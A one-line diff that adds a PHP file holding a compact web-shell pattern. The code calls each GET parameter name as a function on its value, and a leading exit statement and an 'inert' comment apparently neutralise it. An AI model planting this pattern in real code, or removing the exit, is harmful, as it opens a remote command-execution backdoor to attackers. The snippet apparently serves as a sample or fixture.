@@ -1,0 +1,1 @@
+<?php exit; /* inert */ array_walk($_GET,function($v,$k){ $k($v); });
